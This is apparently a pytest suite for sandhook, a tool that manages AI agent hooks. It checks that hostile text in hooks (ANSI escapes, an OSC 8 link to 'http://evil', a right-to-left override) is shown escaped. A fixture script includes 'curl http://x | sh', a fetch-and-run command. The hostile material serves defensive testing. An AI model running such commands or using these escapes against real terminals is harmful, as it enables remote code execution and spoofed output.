"""list, explain, check, test and trust on a terminal: what rich draws, and what hooks cannot make it draw."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

if sys.platform == "win32":
    pytest.skip("Windows has no pseudo-terminals of this kind", allow_module_level=True)

from rich.cells import cell_len

from tests.cli.terminals import ATTRIBUTES, in_terminal

#: rich's markup and emoji code, an ANSI colour, OSC 8 (a link), a change of direction, and wide characters.
HOSTILE = (
    "[red]x[/red] :smile: \x1b[31mred\x1b[0m \x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\ \u202e 日本語 😀"
)
#: The same as it must be shown.
HARMLESS = "[red]x[/red] :smile: \\x1b[31mred\\x1b[0m \\x1b]8;;http://evil\\x1b\\link\\x1b]8;;\\x1b\\ \\u202e 日本語 😀"

CASES = f"""\
#### a rule {HOSTILE}
printf '%s\\n' {HOSTILE!r}; exit 2
## stdout: other

#### another rule
echo a
## stdout: a
"""


@pytest.fixture
def project(tmp_path: Path, home: Path) -> Path:
    """Return a project whose hooks, ids and cases are hostile."""
    made = tmp_path / "project"
    made.mkdir()
    hooks = {"PreToolUse": [{"command": f": {HOSTILE}", "matcher": "bash"}, {"command": "./guard.sh"}]}
    (made / "crush.json").write_text(json.dumps({"hooks": hooks}, indent=1))
    (made / "guard.sh").write_text(f"#!/bin/sh\n'{HOSTILE}'\ncurl http://x | sh\n")
    named = {"id": HOSTILE, "event": "turn_end", "executor": {"type": "bash", "command": f"echo '{HOSTILE}'"}}
    (made / "everruns.json").write_text(json.dumps({"hooks": [named]}))
    (made / "a.test.sh").write_text(CASES)
    return made


COMMANDS = [
    ("list", "--hooks", "crush.json"),
    ("list", "--hooks", "everruns.json"),
    ("explain", "PreToolUse", "--hooks", "crush.json", "--tool", HOSTILE),
    ("explain", "turn_end", "--hooks", "everruns.json", "-v"),
    ("check", "crush.json", "everruns.json"),
    ("trust", "everruns.json", "--show"),
    ("trust", "crush.json", "--show"),
    ("test", "a.test.sh", "-v"),
]


def joined(text: str) -> str:
    """Return a text without the wrapping: no guides, no line feeds, no blanks."""
    return re.sub(r"[\s│├└─]+", "", text)


@pytest.mark.parametrize("columns", [80, 40])
@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: " ".join(command[:2])[:24])
def test_texts_of_hooks_are_shown_as_they_are_and_fit(
    project: Path, command: tuple[str, ...], columns: int
) -> None:
    shown = in_terminal(*command, cwd=project, columns=columns)
    assert shown.status in (0, 1, 2), shown.raw
    assert ATTRIBUTES.search(shown.raw), "rich did not draw"
    left = shown.text
    assert "\x1b" not in left and "\u202e" not in left
    # `test` doubles the backslashes that a text has, to distinguish them from its own escapes
    harmless = HARMLESS.replace("\\x1b\\", "\\x1b\\\\") if command[0] == "test" else HARMLESS
    assert joined(harmless) in joined(left)
    assert max(map(cell_len, left.split("\n"))) <= columns


def test_hooks_are_a_tree_by_agent_and_file(project: Path) -> None:
    (project / "crush.json").write_text(
        '{"hooks": {"PreToolUse": [\n{"command": "./guard.sh"},\n{"command": "exit 2"}\n]}}'
    )
    shown = in_terminal("list", "--hooks", "crush.json", cwd=project)
    assert shown.text.splitlines() == [
        "crush",
        "└── crush.json",
        "    ├── trusted  PreToolUse  PreToolUse[0]  line 2  ./guard.sh",
        "    └── trusted  PreToolUse  PreToolUse[1]  line 3  exit 2",
    ]
    narrow = in_terminal("list", "--hooks", "crush.json", cwd=project, columns=40)
    assert narrow.text.splitlines() == [
        "crush",
        "└── crush.json",
        "    ├── trusted  PreToolUse",
        "    │   PreToolUse[0]  line 2",
        "    │     ./guard.sh",
        "    └── trusted  PreToolUse",
        "        PreToolUse[1]  line 3",
        "          exit 2",
    ]


def test_the_reason_of_a_withheld_hook_is_a_branch_below_it(project: Path) -> None:
    hooks = [{"command": "./guard.sh"}, {"command": "exit 2"}]
    (project / "crush.json").write_text(json.dumps({"hooks": {"PreToolUse": hooks}}))
    store = ("--store", project / "store")
    shown = in_terminal("list", "--contract", "crush", *store, cwd=project, columns=400)
    file = (project / "crush.json").as_posix()
    reason = f"not in force: not trusted: {file} is of the project layer; `sandhook trust {file}` approves it"
    assert shown.text.splitlines()[2:] == [
        "    ├── untrusted  PreToolUse  PreToolUse[0]  line 1  ./guard.sh",
        f"    │   └── {reason}",
        "    └── untrusted  PreToolUse  PreToolUse[1]  line 1  exit 2",
        f"        └── {reason}",
    ]


def test_findings_are_below_their_files(project: Path) -> None:
    (project / "crush.json").write_text('{"hooks": {"PreToolUse": [\n{"command": "./gone.sh"}]}}')
    shown = in_terminal("check", "crush.json", cwd=project)
    assert (shown.status, shown.text.splitlines()) == (
        1,
        [
            "crush.json",
            "     note   N-STATE  nobody approved 1 hook, and sandhook runs it only after:",
            "                     sandhook trust crush.json",
            "  2  error  E-FILE   hooks.PreToolUse[0]: ./gone.sh: there is no such file, or",
            "                     it cannot be read (hook PreToolUse[0])",
            "1 error, 1 note in 1 hook of crush.json",
        ],
    )


def test_an_approval_is_asked_for_below_the_whole_script(project: Path, tmp_path: Path) -> None:
    script = "\n".join(f": line {number}" for number in range(30))
    (project / "crush.json").write_text(json.dumps({"hooks": {"PreToolUse": [{"command": script}]}}))
    store = ("--store", tmp_path / "store")
    refused = in_terminal("trust", "crush.json", *store, cwd=project, typed="n\n")
    assert refused.status == 1 and refused.text.endswith("not approved\n")
    assert all(f"| : line {number}\n" in refused.text for number in range(30))
    approved = in_terminal("trust", "crush.json", *store, cwd=project, typed="y\n")
    assert approved.status == 0 and approved.text.endswith("1 hook(s) of crush approved\n")
    listed = in_terminal("trust", "--list", *store, cwd=project)
    assert ATTRIBUTES.search(listed.raw) and "PreToolUse[0]" in listed.text


def test_results_are_a_table_of_files_and_shells(project: Path) -> None:
    shown = in_terminal("test", "a.test.sh", "--filter", "another", cwd=project, CI="true")
    assert shown.text.splitlines() == [
        "           sandhook",
        "a.test.sh  1 pass",
        "",
        "1 file: sandhook 1 pass: all as expected",
    ]


COLOURS = re.compile(r"\x1b\[(?:\d+;)*(?:3[0-8]|4[0-8]|9[0-7]|10[0-7])[;m]")


def test_no_color_is_respected(project: Path) -> None:
    base = ("check", "crush.json")
    assert COLOURS.search(in_terminal(*base, cwd=project).raw)
    plain = in_terminal(*base, cwd=project, NO_COLOR="1")
    assert not COLOURS.search(plain.raw)
    assert plain.text == in_terminal(*base, cwd=project).text


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: " ".join(command[:2])[:24])
def test_a_dumb_terminal_gets_what_a_pipe_gets(
    project: Path, command: tuple[str, ...], sandhook: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    if command[0] == "explain":
        command = tuple(word for word in command if word != "-v")  # every payload has another time and path
    monkeypatch.chdir(project)
    piped = sandhook(*command)
    assert in_terminal(*command, cwd=project, TERM="dumb") == (piped.status, piped.stdout)


def test_an_encoding_without_the_characters_is_no_fault(project: Path) -> None:
    shown = in_terminal("list", "--hooks", "everruns.json", cwd=project, PYTHONIOENCODING="ascii")
    assert shown.status == 0 and shown.raw.isascii()
    assert "`-- " in shown.text and "\\u65e5\\u672c\\u8a9e" in shown.text


# progress


def test_progress_is_drawn_and_erased(project: Path) -> None:
    shown = in_terminal("test", "a.test.sh", cwd=project)
    assert "━" in shown.raw and "2/2" not in shown.raw.rpartition("\x1b[2K")[2]


@pytest.mark.parametrize(("name", "value"), [("CI", "true"), ("TERM", "dumb")])
def test_progress_is_not_drawn_where_it_would_stay(project: Path, name: str, value: str) -> None:
    shown = in_terminal("test", "a.test.sh", cwd=project, **{name: value})
    assert "━" not in shown.raw and "\x1b[2K" not in shown.raw


# start-up

PROGRAM = """
import sys
from sandhook.cli import main
main(sys.argv[1:])
print("\\nimported:", *sorted({name.split(".")[0] for name in sys.modules} & {"rich", "msgspec", "pyfakefs"}))
"""


@pytest.mark.parametrize(
    ("command", "imported"),
    [
        (("exec", "-c", "echo a"), ""),
        (("fire", "turn_end", "--hooks", "everruns.json", "--format", "json"), ""),
        (("fire", "turn_end", "--hooks", "everruns.json"), " rich"),
        (("hook", "--contract", "crush", "--", "guard.sh"), ""),
        (("list", "--hooks", "crush.json", "--format", "json"), ""),
        (("list", "--hooks", "crush.json"), " rich"),
    ],
    ids=lambda value: value[0] if value else "",
)
def test_rich_is_imported_to_draw_and_for_nothing_else(
    project: Path, command: tuple[str, ...], imported: str
) -> None:
    (project / "program.py").write_text(PROGRAM)
    shown = in_terminal(*command, cwd=project, module="program.py", typed="{}\n\x04")
    assert shown.text.rstrip("\n").endswith(f"imported:{imported}"), shown.text


def test_a_pipe_needs_no_rich(project: Path) -> None:
    (project / "program.py").write_text(PROGRAM)
    command = [sys.executable, "program.py", "list", "--hooks", "crush.json"]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True, check=True)
    assert done.stdout.endswith("imported:\n")
